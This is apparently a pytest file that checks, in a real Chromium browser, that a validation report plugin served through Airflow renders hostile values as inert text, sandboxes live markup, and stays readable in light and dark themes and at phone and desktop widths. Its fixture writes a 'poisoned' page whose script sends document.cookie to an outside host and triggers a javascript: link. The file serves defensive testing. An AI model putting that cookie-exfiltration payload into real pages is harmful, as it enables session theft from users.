"""S3: a hostile verdict in a real Chromium, as Airflow's plugin serves it: `make test-browser`.

Three lines of defence, each alone: pages hold values as text, also where no policy holds; a page in
which markup is live does nothing; and what the pages are meant to show is there to be read, light
and dark, on a wide screen and on a telephone. `PICTURES` names a folder to keep screenshots in.
"""

import os
import shutil
import socket
import threading
import time
import warnings
from collections.abc import Iterator
from dataclasses import replace
from itertools import product
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote, urlsplit

import pytest

from strata.audit.run import ValidationReport
from strata.jobs.validate.report import build_report, index_of
from tests.attacks.chromium import Browser, Tab, chromium
from tests.attacks.hostile import CALLING, HOSTILE, MARK, OUTSIDE, TRICKY
from tests.attacks.test_report import PLAIN, hostile_run

pytestmark = [pytest.mark.browser, pytest.mark.dags, pytest.mark.filterwarnings("ignore")]

EVERY: Final = (*HOSTILE, *CALLING, *TRICKY)
RUN: Final = "manual__2026-11-23T06:36:17.643092+00:00"
WIDE, NARROW = 1280, 390
CONTRAST: Final = 4.5  # of text, by WCAG 2.2, level AA
POISONED: Final = "poisoned.html"
TAGS: Final = {
    "HTML", "HEAD", "META", "LINK", "TITLE", "STYLE", "BODY", "HEADER", "MAIN", "SECTION",
    "ARTICLE", "DIV", "H1", "H2", "H3", "P", "B", "A", "BR", "UL", "LI", "LABEL", "INPUT",
    "DETAILS", "SUMMARY", "STRONG", "SMALL", "CODE", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD",
}  # fmt: skip
WHITE: Final = "rgb(255, 255, 255)"
# What a script of the data would call; a page whose scripts may not run never hears of it.
REPORTS: Final = f"window.{MARK} = n => window.said_{MARK}(String(n)); window.alert = {MARK}"
MEASURES: Final = """[innerWidth, document.scrollingElement.scrollWidth,
  [...document.querySelectorAll('.box')].map(b => b.scrollWidth > b.clientWidth),
  getComputedStyle(document.documentElement).backgroundColor]"""
CONTRASTS: Final = """(() => {
  const numbers = c => c.match(/[\\d.]+/g).map(Number);
  const light = c => { const [r, g, b] = numbers(c).slice(0, 3).map(v => v / 255)
      .map(v => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
    return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
  const paper = e => { for (; e; e = e.parentElement) {
      const c = getComputedStyle(e).backgroundColor;
      if ((numbers(c)[3] ?? 1) === 1) return c; }
    return 'rgb(255, 255, 255)'; };
  return [...document.body.querySelectorAll('*')]
    .filter(e => [...e.childNodes].some(n => n.nodeType === 3 && n.data.trim()))
    .map(e => { const [a, b] = [light(getComputedStyle(e).color), light(paper(e))];
      return [e.tagName + '.' + e.className, (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05)]; });
})()"""


class Place:
    """A report, where it is served, and what the server was asked for."""

    def __init__(self, base: str, folder: Path) -> None:
        """Take the address of the report and its folder."""
        self.base, self.site = base, index_of(folder).parent
        self.asked: list[str] = []

    @property
    def pages(self) -> list[str]:
        """Return the addresses of all pages, as parts below the report's."""
        files = (file.relative_to(self.site).as_posix() for file in self.site.rglob("*.html"))
        return sorted(quote(name) for name in files if name != POISONED)


def usual(name: str = "a usual night", *, found: bool = True) -> ValidationReport:
    """Return a run with one finding, as people know it."""
    part = "flights/parts/2013-12/0c5d2a7f7e5e4b0f9a8f2d1b3c4e5f60.parquet"
    clean = replace(PLAIN, shard="flights", check="christmas_week", part=part, outcome="clean")
    lie = replace(
        clean,
        outcome="mismatch",
        column="dep_delay",
        bound="upper 14, a row has 301",
        replay=f"strata validate flights --part {part} --filter christmas_week",
    )
    clean = replace(clean, accepted=0)
    verdicts = (clean, *([lie] if found else []), replace(clean, check="format"))
    after = "off" if found else "soft"
    return ValidationReport("flights", name, (), verdicts, "soft", after, None)


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    """Serve a report of hostile verdicts by the plugin's own route to whoever has a cookie."""
    folder = tmp_path_factory.mktemp("hostile") / "report"
    one, merges = hostile_run(EVERY)
    build_report(folder, RUN, [one], merges, max_failed_rows=99)
    quiet = usual("a quiet night", found=False)
    build_report(folder, "a quiet night", [quiet], {}, max_failed_rows=99)
    build_report(folder, "a usual night", [usual()], {}, max_failed_rows=99, console="/strata")
    index_of(folder).with_name(POISONED).write_text(
        "<!DOCTYPE html><title>poisoned</title>"
        f"<a id=click href=\"javascript:{MARK}('click')\">x</a>"
        f"<script>{MARK}('script'); fetch('/api/v2/dags'); new Image().src = '//{OUTSIDE}/'"
        f" + document.cookie</script>{' '.join(EVERY)}"
    )
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        import uvicorn
        from fastapi import FastAPI, HTTPException, Request

        from strata_airflow import report

    def viewer(request: Request) -> None:
        if request.cookies.get("_token") != "secret":
            raise HTTPException(401)

    with socket.create_server(("127.0.0.1", 0)) as taken, pytest.MonkeyPatch.context() as patch:
        patch.setattr(report, "report_dir", lambda: folder)
        inner, outer = report._application(), FastAPI()
        for dependency in [d for route in inner.routes for d in route.dependant.dependencies]:
            inner.dependency_overrides[dependency.call] = viewer
        outer.mount(report.PREFIX, inner)
        made = Place(f"http://127.0.0.1:{taken.getsockname()[1]}{report.PREFIX}/", folder)

        async def noted(scope: Any, receive: Any, send: Any) -> None:
            made.asked.append(scope["path"])
            await outer(scope, receive, send)

        server = uvicorn.Server(uvicorn.Config(noted, log_level="error", lifespan="off"))
        thread = threading.Thread(target=server.run, kwargs={"sockets": [taken]}, daemon=True)
        thread.start()
        end = time.monotonic() + 30
        while not server.started:
            assert time.monotonic() < end
            time.sleep(0.02)
        yield made
        server.should_exit = True
        thread.join(30)


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    """Return a running Chromium."""
    with chromium(tmp_path_factory.mktemp("chromium")) as running:
        yield running


def logged_in(browser: Browser, place: Place, **options: Any) -> Tab:
    """Open a page as somebody whom Airflow knows, with its cookie as Airflow sets it."""
    tab = watched(browser.page(**options))
    base = urlsplit(place.base)
    there = f"{base.scheme}://{base.netloc}/"
    tab.tell("Network.setCookie", name="_token", value="secret", url=there, sameSite="Lax")
    return tab


def watched(tab: Tab) -> Tab:
    tab.tell("Runtime.addBinding", name=f"said_{MARK}")
    tab.tell("Page.addScriptToEvaluateOnNewDocument", source=REPORTS)
    return tab


def ran(tab: Tab) -> list[Any]:
    """Return what scripts of the data did."""
    called = tab.heard("Runtime.bindingCalled", "Runtime.consoleAPICalled")
    return called + tab.heard("Page.javascriptDialogOpening", "Page.windowOpen")


def picture(tab: Tab, name: str) -> None:
    if folder := os.environ.get("PICTURES"):
        Path(folder).mkdir(parents=True, exist_ok=True)
        tab.picture(Path(folder) / f"{name}.png")


def test_a_hostile_verdict_is_text_and_calls_nobody(browser: Browser, place: Place) -> None:
    """In force: the plugin's headers. What is refused by them is a complaint, so there is none."""
    tab = logged_in(browser, place)
    shown = ""
    for page in place.pages:
        tab.show(width=WIDE, dark=True)
        tab.open(place.base + page)
        tab.show(width=WIDE, dark=False)
        tags, words = tab.look(
            "[[...document.querySelectorAll('*')].map(e => e.tagName), document.body.innerText]"
        )
        assert set(tags) <= TAGS, page
        shown += words
    assert len(place.pages) == 6
    for text in EVERY:
        assert text in shown, "it is there to be seen"
    assert ran(tab) == []
    assert tab.complaints() == []
    assert [url for url in tab.asked() if not url.startswith((place.base, "data:,"))] == []
    assert browser.outside == []
    tab.close()


def test_no_policy_is_needed_for_that(browser: Browser, place: Place) -> None:
    """From the disk, with the pages' own policy put aside: only that all is text protects."""
    tab = watched(browser.page(allowed=True))
    for page in place.pages:
        tab.open(f"file://{quote(str(place.site))}/{page}")
        live = tab.look(
            "[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames())"
            ".filter(n => n.startsWith('on') || n === 'src' || n === 'srcdoc' || n === 'style')"
        )
        assert live == [], page
        assert MARK not in tab.look("document.title").replace(RUN, "")
    assert (ran(tab), tab.complaints()) == ([], [])
    assert [url for url in tab.asked() if not url.startswith(("file:", "data:,"))] == []
    assert browser.outside == []
    tab.close()


def test_the_page_would_run_where_nothing_holds_it(place: Place, tmp_path: Path) -> None:
    """The attack is one, and the test can see it: the same page, from the disk."""
    copy = tmp_path / POISONED
    shutil.copy(place.site / POISONED, copy)
    with chromium(tmp_path / "profile") as browser:
        tab = watched(browser.page(allowed=True))
        tab.open(f"file://{copy}")
        said = {one["payload"] for one in tab.heard("Runtime.bindingCalled")}
        assert {"script", "1", "2", "3"} <= said
        assert any(OUTSIDE in url for url in tab.asked())
        assert browser.outside


def test_a_page_in_which_markup_is_live_does_nothing(browser: Browser, place: Place) -> None:
    """As if nothing were escaped: in the sandbox are no scripts, no origin and no refresh."""
    tab = logged_in(browser, place)
    before = len(place.asked)
    tab.open(place.base + POISONED)
    time.sleep(1)  # for what waits before it does something
    assert ran(tab) == []
    assert tab.look("location.href") == place.base + POISONED, "it leads nobody away"
    tab.look("document.querySelector('#click').click()")
    assert ran(tab) == []
    assert tab.look("document.title") == "poisoned"
    assert tab.look("self.origin") == "null", "it has no origin"
    cookie = "(() => { try { return document.cookie } catch (e) { return e.name } })()"
    assert tab.look(cookie) == "SecurityError", "and no cookie"
    assert place.asked[before:] == [urlsplit(place.base + POISONED).path]
    # For a frame Chromium opens a connection before it looks at the policy, and then says nothing.
    assert [said for said in browser.outside if said] == []
    browser.outside.clear()
    tab.close()


def test_links_lead_from_page_to_page_and_stay_logged_in(browser: Browser, place: Place) -> None:
    tab = logged_in(browser, place)
    tab.open(place.base)
    assert tab.look("location.href") == f"{place.base}index.html"
    tab.click("li.failed a")
    assert "/validations/flights/" in tab.look("location.href")
    assert tab.look("document.querySelector('h1').innerText") == "flights"
    tab.click("section p a")
    assert tab.look("location.href") == f"{place.base}expectations/flights.html"
    tab.click("header a")
    assert tab.look("location.href") == f"{place.base}index.html"
    assert tab.complaints() == []
    tab.close()


def test_only_what_failed_can_be_shown_without_a_script(browser: Browser, place: Place) -> None:
    tab = logged_in(browser, place)
    tab.open(place.base)
    visible = (
        "[...document.querySelectorAll('li[class]')].map(e => `${e.className} ${e.offsetHeight}`)"
    )
    assert any(one.startswith("passed") for one in tab.look(visible))
    tab.click("#only", leads=False)
    after = tab.look(visible)
    hidden = [one.endswith(" 0") for one in after]
    assert hidden == [one.startswith("passed") for one in after]
    tab.close()


def test_pages_can_be_read_by_day_and_night_on_a_screen_and_on_a_telephone(
    browser: Browser, place: Place
) -> None:
    """A page is as wide as the screen, what is wider scrolls in its box, and text stands out."""
    tab = logged_in(browser, place)
    scrolled = 0
    for number, page in enumerate(place.pages):
        tab.open(place.base + page)
        tab.look("document.querySelectorAll('details').forEach(d => d.open = true)")
        for theme, width in product(("light", "dark"), (WIDE, NARROW)):
            tab.show(width=width, dark=theme == "dark")
            inner, wide, boxes, paper = tab.look(MEASURES)
            assert (inner, paper == WHITE) == (width, theme == "light"), "its style holds"
            assert wide <= width, page
            scrolled += width == NARROW and any(boxes)
            text = tab.look(CONTRASTS)
            assert len(text) > 5
            assert [one for one in text if one[1] < CONTRAST] == [], (page, theme)
            picture(tab, f"{theme}-{width}-{number:02}-{Path(page).stem}")
    assert scrolled, "what is too wide for a telephone scrolls by itself"
    tab.close()
